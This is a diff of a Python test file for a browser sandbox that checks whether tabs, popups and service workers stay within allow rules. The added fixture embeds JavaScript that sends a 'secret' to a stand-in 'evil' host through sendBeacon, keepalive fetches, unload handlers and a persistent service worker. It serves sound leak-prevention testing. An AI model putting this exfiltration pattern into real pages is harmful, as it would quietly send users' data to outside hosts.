@@ -112,20 +112,19 @@ async def test_the_tabs_of_a_user_load_what_they_like(web: Web, detached: Detach
     assert web.paths("evil") == ["/favicon.ico", "/theirs"] or web.paths("evil") == ["/theirs"]
 
 
-async def test_a_run_is_limited_for_as_long_as_it_lasts(browser: Browser, web: Web) -> None:
+async def test_a_run_keeps_its_tabs_to_its_rules(browser: Browser, web: Web) -> None:
     outlets = put_outlets(web)
     async with limited(rules_of(allow=ALLOWED)):
         page = await browser.new_page()
         await page.goto(outlets)
         await all_tried(web, page)
-        during = web.paths("evil")
-        for each in page.popups:
-            await each.close()
-        await page.goto(web.origin("good") + "/next")
+    got_out = web.paths("evil")
+    for each in page.popups:
+        await each.close()
     receipt = await page.goto(web.origin("evil") + "/afterwards")
     await page.close()
 
-    assert [each for each in during if each not in BESIDE_ALL_SESSIONS + OF_NO_TAB] == []
+    assert [each for each in got_out if each not in BESIDE_ALL_SESSIONS + OF_NO_TAB] == []
     assert receipt.navigated_to == web.origin("evil") + "/afterwards"
 
 
@@ -137,8 +136,88 @@ async def test_a_tab_with_a_page_in_it_is_limited_from_then_on(page: Page, web: 
         await limit(page.guard)
         during = [await page.evaluate(asked), await page.evaluate(f"frames[0].{asked}")]
     afterwards = await page.evaluate(asked)
+    await page.goto(web.origin("good"))
+    anew = await page.evaluate(asked)
 
-    assert (during, afterwards) == (["refused", "refused"], "sent")
+    assert (during, afterwards, anew) == (["refused", "refused"], "refused", "sent")
+
+
+_KEEPS = """<title>Keeps</title><script>
+const send = (how) => navigator.sendBeacon("EVIL/" + how, "secret");
+let times = 0;
+setInterval(() => send("timer-" + times++), 20);
+for (const last of ["pagehide", "unload", "visibilitychange", "beforeunload"]) addEventListener(last, () => {
+  send(last); fetch("EVIL/" + last, {keepalive: true, mode: "no-cors"}); });
+const tell = (worker) => worker.postMessage("EVIL/");
+if (top === window) navigator.serviceWorker.register("/keeps.js").then((kept) => tell(kept.installing || kept.active));
+</script><iframe src="OTHER/keeps"></iframe>"""
+_KEEPING_WORKER = """
+let times = 0;
+onmessage = (told) => setInterval(() => fetch(told.data + "service-" + times++, {mode: "no-cors"}).catch(() => 0), 20);
+"""
+
+
+def put_keeps(web: Web) -> str:
+    """A page, one of another site in it, and a service worker, that go on telling what they know, and at their end."""
+    text = _KEEPS.replace("EVIL", web.origin("evil"))
+    web.put("good", "/keeps.js", _KEEPING_WORKER, "text/javascript")
+    web.put("other", "/keeps", text.replace("<iframe", "<i"))
+    return web.put("good", "/keeps", text.replace("OTHER", web.origin("other")))
+
+
+@pytest.mark.parametrize("end", ["close", "goto", "run"])
+async def test_what_a_page_was_told_in_a_run_does_not_leave_after_it(browser: Browser, web: Web, end: str) -> None:
+    async with limited(rules_of(allow=ALLOWED)):
+        page = await browser.new_page()
+        await page.goto(put_keeps(web))
+        await page.evaluate("navigator.serviceWorker.ready.then(() => 0)")
+    still = "new Promise(done => setTimeout(done, 300))"
+    await page.evaluate(still)
+    if end == "goto":
+        await page.goto(web.origin("free"))
+        await page.evaluate(f"fetch('{web.origin('free')}/fetched')")
+    elif end == "run":
+        async with limited(rules_of(allow=["free.localhost"])):
+            await limit(page.guard)
+            await page.goto(web.origin("free"))
+    else:
+        await page.close()
+        page = await browser.new_page()
+    await page.evaluate(still)
+    entries = await page.evaluate("history.length")
+    await page.close()
+
+    assert web.paths("evil") == []
+    assert entries <= 2
+    assert end == "close" or "/" in web.paths("free")
+
+
+async def test_a_tab_stays_limited_while_one_that_it_opened_is_there(browser: Browser, web: Web) -> None:
+    async with limited(rules_of(allow=ALLOWED)):
+        page = await browser.new_page()
+        await page.goto(web.put("good", "/", "<a href='/popup' target=_blank rel=opener>Open</a>"))
+        await page.click(await ref(page, "Open"))
+
+    with pytest.raises(BlockedByPolicy):
+        await page.goto(web.origin("evil"))
+    await page.popups[0].close()
+    receipt = await page.goto(web.origin("evil"))
+    await page.close()
+
+    assert receipt.navigated_to == web.origin("evil") + "/"
+
+
+async def test_the_next_run_by_the_same_rules_goes_on_in_the_tab(page: Page, web: Web) -> None:
+    for _ in range(3):
+        async with limited(rules_of(allow=ALLOWED)):
+            await limit(page.guard)
+            await page.goto(web.origin("good"))
+    opened = await page.evaluate(
+        f"new Promise(done => {{ const socket = new WebSocket('ws://good.localhost:{web.port}/socket');"
+        " socket.onopen = () => done('open'); socket.onerror = () => done('refused'); })"
+    )
+
+    assert (opened, len(page.guard.narrow)) == ("open", 1)
 
 
 async def test_an_address_that_is_not_allowed_is_refused_before_anything_is_sent(guarded: Browser, web: Web) -> None:
